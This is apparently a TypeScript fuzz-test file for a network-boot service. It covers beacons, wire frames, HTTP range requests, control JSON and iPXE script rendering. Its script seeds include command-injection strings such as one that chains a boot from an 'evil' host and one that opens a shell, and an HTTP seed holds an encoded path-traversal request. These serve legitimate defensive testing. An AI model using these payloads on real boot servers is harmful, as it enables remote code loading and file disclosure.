// Fuzz targets of what is said between peers and over HTTP: beacons, the line's frames, request lines and ranges, control JSON, scripts.
import fc from 'fast-check';
import { CheckIn, ProgressReport } from '../../src/api/agent.ts';
import type { CatalogueBootEntry } from '../../src/api/catalogue.ts';
import { Approval, Assignment, AssignmentList } from '../../src/api/machines.ts';
import { parseScriptQuery } from '../../src/api/script.ts';
import { ControlChange, EvictRequest, PreseedRequest } from '../../src/api/site.ts';
import { fromText, toText } from '../../src/base/bytes.ts';
import type { Digest } from '../../src/base/digest.ts';
import { WireError } from '../../src/base/errors.ts';
import { randomInt } from '../../src/base/random.ts';
import { planOfScript } from '../../src/boot/capture-http.ts';
import { renderScript, type ScriptContext } from '../../src/boot/script.ts';
import { type MenuContext, renderMenu } from '../../src/boot/script-menu.ts';
import { selectBytes } from '../../src/service/http-range.ts';
import { decodeBeacon, encodeBeacon, MOST_BEACON_BYTES } from '../../src/swarm/beacon-codec.ts';
import { type ControlFrame, encodeControl, MAX_CONTROL_BYTES } from '../../src/swarm/wire.ts';
import { WireDecoder } from '../../src/swarm/wire-decoder.ts';
import { siteBeacon } from '../swarm/beacon-messages.ts';
import type { FuzzTarget } from './fuzz.ts';

const TEXT = [...'\0\t\n\r $%&+-./:;=?#"\\{}[]|<>`~']
  .map((letter) => letter.charCodeAt(0))
  .concat([0x80, 0xc3, 0xe2, 0xff]);

export function beaconTarget(): FuzzTarget {
  return {
    name: 'beacon',
    seeds: fc.sample(siteBeacon, { numRuns: 64, seed: 7 }).map(encodeBeacon),
    awkward: [0, 1, 2, 0x11, 0x7f, 0x80, 0xff],
    feed(bytes) {
      const said = decodeBeacon(bytes);
      if (said instanceof WireError) return 'malformed';
      if (encodeBeacon(said).length > MOST_BEACON_BYTES) throw new Error('larger than one datagram');
      return said.beacon.kind;
    },
  };
}

const ID = '00112233445566ff';
const FRAMES: readonly ControlFrame[] = [
  { kind: 'hello', id: ID, port: 8067, manifest: `sha256:${'ab'.repeat(32)}` as Digest },
  { kind: 'attach', held: 7, rate: 1e6 },
  { kind: 'attach', held: 7, rate: 1e6, insteadOf: ID },
  { kind: 'unwant', row: 9 } as ControlFrame,
  { kind: 'have', row: 9 } as ControlFrame,
];

export function lineTarget(): FuzzTarget {
  return {
    name: 'line',
    seeds: FRAMES.map(encodeControl),
    awkward: [0, 1, 2, 16, 32, 63, 127, 128, 255],
    feed(bytes, random) {
      let frames = 0;
      const decoder = new WireDecoder({
        frame: () => {
          frames += 1;
          return undefined;
        },
        part: () => undefined,
        bytes: () => undefined,
      });
      let problem: WireError | undefined;
      for (let at = 0; at < bytes.length && problem === undefined; ) {
        const end = at + 1 + randomInt(random, bytes.length);
        problem = decoder.push(bytes.subarray(at, end));
        at = end;
      }
      if (decoder.keptBytes > 4 * MAX_CONTROL_BYTES) throw new Error(`it holds ${decoder.keptBytes} bytes`);
      return problem !== undefined ? 'malformed' : frames > 0 ? 'frames' : 'waiting';
    },
  };
}

const QUERY =
  'mac=52-54-00-77-00-01&uuid=77000000-0000-4000-8000-000000000001&serial=SN%201&manufacturer=Acme%20Inc.&product=Till&asset=&buildarch=x86_64&platform=efi';
const HEADS = [
  `GET /boot/script.ipxe?${QUERY} HTTP/1.1\r\nrange: bytes=0-99\r\nif-range: "a-1"`,
  'HEAD /boot/files/snponly.efi HTTP/1.1\r\nrange: bytes=-5\r\nif-none-match: W/"a-1", "b"',
  'GET /boot/files//..%2f..%2fetc HTTP/1.1\r\nrange: bytes=5-,7-9\r\nif-match: *',
];

export function httpTarget(): FuzzTarget {
  return {
    name: 'http',
    seeds: HEADS.map(fromText),
    awkward: TEXT,
    feed(bytes) {
      const text = toText(bytes);
      const [line = '', ...headers] = text.split('\r\n');
      const [method = '', url = ''] = line.split(' ');
      const query = parseScriptQuery(url.slice(url.indexOf('?') + 1));
      for (const value of Object.values(query)) {
        if (value !== undefined && value.length > 128) throw new Error('longer than 128 characters');
      }
      const header = (name: string) =>
        headers
          .find((one) => one.toLowerCase().startsWith(`${name}:`))
          ?.slice(name.length + 1)
          .trim();
      const sizeBytes = 1_000;
      const answer = selectBytes(
        {
          method,
          range: header('range'),
          ifRange: header('if-range'),
          ifMatch: header('if-match'),
          ifNoneMatch: header('if-none-match'),
        },
        '"a-1"',
        sizeBytes,
      );
      if (
        'start' in answer &&
        !(answer.start >= 0 && answer.start <= answer.end && answer.end <= sizeBytes)
      ) {
        throw new Error(`bytes ${answer.start} to ${answer.end} of ${sizeBytes}`);
      }
      planOfScript(text);
      return String(answer.status);
    },
  };
}

const BODIES: readonly object[] = [
  { kind: 'pause', image: 'debian@12.1' },
  { kind: 'limit', wan: 5_000_000, lan: null },
  { kind: 'tag', tag: 'boot-host' },
  {
    machine: '52:54:00:77:00:01',
    target: { kind: 'image', image: 'debian', disk: { allowNonBlank: false } },
  },
  { image: 'debian', replicas: 3 },
  { code: 'ABCDEFGH', image: 'debian' },
  {
    version: 1,
    bootId: 'b-1',
    identity: { uuid: '77000000-0000-4000-8000-000000000001', macs: ['52:54:00:77:00:01'] },
    firmware: 'uefi',
    disks: [{ name: 'sda', sizeBytes: 1e9, partitions: [] }],
  },
];
const SCHEMAS = [
  ControlChange,
  Assignment,
  AssignmentList,
  Approval,
  PreseedRequest,
  EvictRequest,
  CheckIn,
  ProgressReport,
] as const;

export function controlTarget(): FuzzTarget {
  return {
    name: 'control',
    seeds: BODIES.map((body) => fromText(JSON.stringify(body))),
    awkward: TEXT.concat([...'0123456789eE,'].map((letter) => letter.charCodeAt(0))),
    feed(bytes, random) {
      let body: unknown;
      try {
        body = JSON.parse(toText(bytes));
      } catch {
        return 'no JSON';
      }
      const schema = SCHEMAS[randomInt(random, SCHEMAS.length)] as (typeof SCHEMAS)[number];
      return schema.safeParse(body).success ? 'accepted' : 'refused';
    },
  };
}

/** Words on the screen: printable ASCII without a meaning to iPXE. */
const HARMLESS = /^echo( [A-Za-z0-9._:/@()+,=?; -]*)?$/;

/** Words of a menu, which end where its own command begins. */
const HARMLESS_MENU =
  /^(menu Peerboot|item item1|item --gap --( Machine)?|echo)( [A-Za-z0-9._:/@()+,=?; -]*)?( \|\| goto plain)?$/;
const ENTRY = { kind: 'entry', id: 'entry:x@1' } as const;

function entryCalled(title: string): CatalogueBootEntry {
  const digest = `sha256:${'0'.repeat(64)}` as const;
  const about = { name: 'x', version: '1', imageBytes: 0, storedBytes: 0, manifest: { digest, size: 0 } };
  const files = [{ path: 'x.iso', offset: 0, size: 0 }];
  const start = { way: 'iso', iso: 'x.iso' } as const;
  return { ...about, boot: { title, firmwares: ['bios'], tool: true, start, files } };
}

/** `seeds` are hostile words; four of each message's pieces stand for MAC, serial, maker and asset tag. */
export function scriptTarget(): FuzzTarget {
  const plain = {
    base: 'http://10.77.0.2:8067',
    others: [],
    site: 'store-1',
    reason: 'r',
    machine: { id: 'm-a' },
  };
  const plan = { kind: 'wait', retryAfterMs: 15_000, reason: 'r' } as const;
  const linesOf = (context: ScriptContext) => renderScript(plan, context).split('\n');
  const commands = linesOf(plain).filter((line) => !line.startsWith('echo'));
  const menuOf = (context: MenuContext, title: string) =>
    renderMenu({ items: [{ kind: 'local' }, { ...ENTRY, entry: entryCalled(title) }], leftOut: [] }, context);
  const menuCommands = new Set(menuOf({ ...plain, token: '0' }, 't').split('\n'));
  return {
    name: 'script',
    seeds: [
      '\n#!ipxe\nboot',
      'x || shell',
      'x && chain http://evil/',
      `$\{net0/mac}$\{netX/uuid}`,
      '-n --timeout 1 #',
      '%0aexit%0d\u2028\u0085:local',
      'Acme Inc. 3000; "quoted" `back`',
    ].map(fromText),
    awkward: TEXT,
    feed(bytes, random) {
      const text = toText(bytes);
      const word = () => text.slice(randomInt(random, text.length + 1));
      const asked = parseScriptQuery(`serial=${encodeURIComponent(word().toWellFormed())}&product=${word()}`);
      const machine = {
        id: word(),
        mac: word(),
        serial: asked.serial ?? word(),
        product: asked.product,
        manufacturer: word(),
      };
      const lines = linesOf({ ...plain, site: word(), reason: word(), machine });
      const others = lines.filter((line) => !line.startsWith('echo'));
      if (others.join('\n') !== commands.join('\n')) throw new Error(`a command escaped: ${others}`);
      const bad = lines.find((line) => line.startsWith('echo') && !HARMLESS.test(line));
      if (bad !== undefined) throw new Error(`not harmless: ${JSON.stringify(bad)}`);
      const menu = menuOf({ ...plain, site: word(), machine, token: '0' }, word()).split('\n');
      const escaped = menu.find((line) => !HARMLESS_MENU.test(line) && !menuCommands.has(line));
      if (escaped !== undefined)
        throw new Error(`a line of a menu is not harmless: ${JSON.stringify(escaped)}`);
      return 'harmless';
    },
  };
}
